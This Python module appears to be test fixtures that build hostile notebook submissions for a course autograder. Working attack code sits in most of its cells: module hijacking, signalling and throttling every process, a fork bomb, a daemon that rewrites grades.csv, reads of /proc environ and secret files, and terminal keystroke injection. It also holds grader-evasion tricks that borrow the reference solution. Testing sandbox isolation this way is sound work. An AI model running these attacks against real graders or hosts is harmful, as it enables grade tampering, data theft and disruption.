"""Hostile lesson-1 submissions (the issue's seven attacks), to grade in one run with ``correct``.

Each is the solved notebook with one cell added (right after the set-up cell) that attacks
the grader; what it manages to read or do travels back, where it can, through the answer
of ``q_bgr_pixel`` (a string echoed in the feedback), as ``READ-<what>`` / ``DID-<what>``
words, so a test can look for them there.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from submissions.crafted import add_cell, cell_with, set_function, solution

#: Every attacking student (and the correct one), in the order build_attacks writes them.
ATTACKERS = (
    "escape_rerun",
    "signals_and_limits",
    "decoder_bomb",
    "outlives",
    "reads_and_talks",
    "terminal",
    "wrong_lesson",
)


def _echo(nb, expression: str) -> None:
    """Answer q_bgr_pixel with the string ``expression`` evaluates to (a feedback echo)."""
    cell_with(
        nb, "check.q_bgr_pixel("
    ).source = f"colour = {expression}\ncheck.q_bgr_pixel(colour);"


def build_attacks(folder: Path, ctx: dict) -> list[str]:
    """Write ``correct`` and every attacker to ``folder``; the students' names.

    ``ctx``: ``outside`` (a folder none may write or read), ``secret`` (a file with a
    secret word), ``port`` (a TCP listener on 127.0.0.1), ``unix`` (a unix socket's
    path), ``out`` (the grader's output folder), ``token`` (a word in the command lines
    of processes that must not outlive the run).
    """
    folder.mkdir(parents=True, exist_ok=True)
    root = Path(__file__).resolve().parents[2]
    notebooks = {"correct": solution()}

    # 1. a module named like one the runner imports, in every folder it might be found from,
    # then the process kills itself: the re-run must not import it (nor see this run's files)
    nb = notebooks["escape_rerun"] = solution()
    payload = (
        "import pathlib\n"
        f"pathlib.Path({str(ctx['outside'])!r}, 'escaped').write_text('escaped')\n"
        "raise SystemExit('escaped')\n"
    )
    add_cell(
        nb,
        f"""
        import os, pathlib, signal, sys
        payload = {payload!r}
        places = {{os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("HOME", "/"), "/tmp"}}
        places |= {{p for p in sys.path if p}}
        for place in places:
            for name in ("json.py", "numpy.py", "cnncourse.py", "encodings.py", "runpy.py"):
                try:
                    pathlib.Path(place, name).write_text(payload)
                except OSError:
                    pass
        os.kill(os.getpid(), signal.SIGKILL)
        """,
    )

    # 2. lower every visible process's limits and priority, signal them
    nb = notebooks["signals_and_limits"] = solution()
    add_cell(
        nb,
        """
        import os, resource, signal
        me = os.getpid()
        for name in os.listdir("/proc"):
            if not name.isdigit() or int(name) == me:
                continue
            pid = int(name)
            for attack in (
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                lambda: resource.prlimit(pid, resource.RLIMIT_AS, (2**20, 2**20)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.kill(pid, signal.SIGSTOP),
            ):
                try:
                    attack()
                except (OSError, ValueError):
                    pass
        """,
    )

    # 3. one large .npy referenced many times, through the runner's own (replaced) encoder
    nb = notebooks["decoder_bomb"] = solution()
    add_cell(
        nb,
        """
        import numpy as np
        import cnncourse.grading.runner as runner
        _big = np.zeros(4_000_000)  # 32 MB, within the per-file limit

        def _bomb(value, folder, prefix="v"):
            return {"$tuple": [{"$array": "big.npy"}] * 100}, {"big.npy": _big}

        runner._encode = _bomb
        """,
    )

    # 4. a daemon (setsid double fork) that waits, then rewrites grades.csv; many processes;
    # files held open in /dev/shm and /tmp
    nb = notebooks["outlives"] = solution()
    add_cell(
        nb,
        f"""
        import os, time
        def _daemon():
            os.setsid()
            if os.fork():
                os._exit(0)
            for _ in range(600):
                time.sleep(0.5)
                try:
                    with open({str(Path(ctx["out"]) / "grades.csv")!r}, "w") as f:
                        f.write("student,total,max\\nhacker,999,10\\n")
                except OSError:
                    pass
        if os.fork() == 0:
            try:
                _daemon()
            finally:
                os._exit(0)
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", "{ctx["token"]}"])
        children = 0
        for _ in range(3000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                os.execv("/bin/sleep", ["sleep", "{ctx["token"]}"])
            children += 1
        held = []
        for place in ("/dev/shm", "/tmp"):
            try:
                f = open(os.path.join(place, "junk-{ctx["token"]}"), "wb")
                held.append(f)
                for _ in range(2048):
                    f.write(b"x" * 2**20)
            except OSError:
                pass
        """,
    )

    # 5. read what is outside (other submissions, solutions, the grader's command line and
    # environment, a secret), talk to listeners; echo it all into the feedback
    nb = notebooks["reads_and_talks"] = solution()
    add_cell(
        nb,
        f"""
        import os, socket
        _found = []
        def _read(name, path):
            try:
                with open(path, "rb") as f:
                    _found.append(f"READ-{{name}}:" + f.read(300).decode("utf-8", "replace"))
            except OSError:
                pass
        _read("secret", {str(ctx["secret"])!r})
        _read("solutions", {str(root / "solutions" / "01_images.ipynb")!r})
        _read("submission", {str(folder / "correct.ipynb")!r})
        for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            _read("cmdline", f"/proc/{{pid}}/cmdline")
            _read("environ", f"/proc/{{pid}}/environ")
        try:
            socket.create_connection(("127.0.0.1", {ctx["port"]}), timeout=2).sendall(b"hi")
            _found.append("DID-tcp")
        except OSError:
            pass
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect({str(ctx["unix"])!r})
            s.sendall(b"hi")
            _found.append("DID-unix")
        except OSError:
            pass
        _found.append("padding" * 20000)
        """,
    )
    _echo(nb, '" ".join(_found)')

    # 6. fake progress lines on the terminal, keystrokes into it
    nb = notebooks["terminal"] = solution()
    add_cell(
        nb,
        """
        import fcntl, os, termios
        _found = []
        for path in ["/dev/tty", "/dev/console"] + [f"/dev/pts/{i}" for i in range(8)]:
            try:
                fd = os.open(path, os.O_WRONLY | os.O_NOCTTY)
            except OSError:
                continue
            try:
                os.write(fd, b"\\ncorrect: 0/10\\n")
                _found.append("DID-write-" + path)
                for byte in b"touch /tmp/pwned\\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
                _found.append("DID-tiocsti-" + path)
            except OSError:
                pass
            finally:
                os.close(fd)
        """,
    )
    _echo(nb, '" ".join(_found) or "red"')

    # 7. metadata that says another lesson
    nb = notebooks["wrong_lesson"] = solution()
    nb.metadata["cnncourse"] = {"lesson": 2, "role": "solution"}

    for student, nb in notebooks.items():
        nbformat.write(nb, folder / f"{student}.ipynb")
    return list(notebooks)


#: The students of :func:`build_borrowed`: each borrows the reference of rgb_to_grayscale.
BORROWERS = ("wrapper", "alias", "importlib", "getattr_module", "copied_code", "unwatched")


def build_borrowed(folder: Path) -> list[str]:
    """Write ``correct`` and every borrower to ``folder``; the students' names.

    Each is the solved lesson-1 notebook whose ``rgb_to_grayscale`` reaches the course's
    own ``cnncourse.images.rgb_to_grayscale`` by another route.
    """
    folder.mkdir(parents=True, exist_ok=True)
    notebooks = {"correct": solution()}
    bodies = {
        "wrapper": "import cnncourse.images\nreturn cnncourse.images.rgb_to_grayscale(image)",
        "alias": "return _gray(image)",
        "importlib": (
            "import importlib\n"
            "return importlib.import_module('cnncourse.images').rgb_to_grayscale(image)"
        ),
        "getattr_module": (
            "import sys\nreturn getattr(sys.modules['cnncourse.images'], 'rgb_to_grayscale')(image)"
        ),
        "copied_code": "return _copy(image)",
        "unwatched": (
            "import sys\n"
            "watcher = sys.getprofile()\n"
            "sys.setprofile(None)\n"
            "try:\n"
            "    return _gray(image)\n"
            "finally:\n"
            "    sys.setprofile(watcher)"
        ),
    }
    for student, body in bodies.items():
        nb = notebooks[student] = solution()
        # taken at import, before the grader starts watching
        add_cell(
            nb,
            """
            import types
            from cnncourse.images import rgb_to_grayscale as _gray
            _copy = types.FunctionType(_gray.__code__, _gray.__globals__, "mine",
                                       _gray.__defaults__, _gray.__closure__)
            _copy.__module__ = "__main__"
            """,
        )
        set_function(nb, "rgb_to_grayscale", body)
    for student, nb in notebooks.items():
        nbformat.write(nb, folder / f"{student}.ipynb")
    return list(notebooks)
